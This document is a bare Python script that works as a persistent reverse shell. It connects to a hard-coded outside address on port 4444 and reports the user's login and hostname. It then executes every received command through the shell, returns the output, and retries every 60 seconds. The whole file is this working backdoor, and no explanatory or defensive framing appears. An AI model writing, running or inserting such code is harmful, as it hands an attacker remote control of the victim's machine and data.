import os, socket, subprocess, time

HOST, PORT = "203.0.113.40", 4444

while True:
    try:
        s = socket.create_connection((HOST, PORT))
        s.send(("%s %s\n" % (os.getlogin(), os.uname().nodename)).encode())
        while True:
            cmd = s.recv(4096).decode().strip()
            if not cmd:
                break
            r = subprocess.run(cmd, shell=True, capture_output=True)
            s.send(r.stdout + r.stderr + b"\n$ ")
    except OSError:
        pass
    time.sleep(60)
